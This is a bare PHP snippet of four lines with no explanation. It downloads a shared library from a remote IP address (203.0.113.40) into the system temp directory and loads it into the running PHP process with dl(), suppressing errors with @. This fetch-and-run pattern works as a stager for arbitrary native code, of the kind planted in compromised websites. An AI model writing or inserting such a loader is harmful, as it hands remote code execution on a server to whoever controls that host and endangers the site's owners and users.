<?php
$so = sys_get_temp_dir() . '/php_ext_' . getmypid() . '.so';
copy('http://203.0.113.40/ext.so', $so);
@dl($so);
